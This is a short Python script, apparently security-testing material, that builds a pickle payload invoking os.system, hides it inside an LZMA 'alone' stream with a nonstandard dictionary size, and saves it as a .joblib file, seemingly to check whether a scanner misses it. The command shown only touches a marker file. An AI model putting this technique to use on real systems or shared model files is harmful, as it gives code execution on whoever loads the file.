import lzma, pickle
raw = b"\x80\x02cos\nsystem\n(S'touch /tmp/rt15/pwned_joblib_lzma_dict'\ntR."
d = lzma.compress(raw, format=lzma.FORMAT_ALONE, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 3 << 22}])
print(d[:13].hex())
open("fn_joblib_lzma_dictsize.joblib", "wb").write(d)
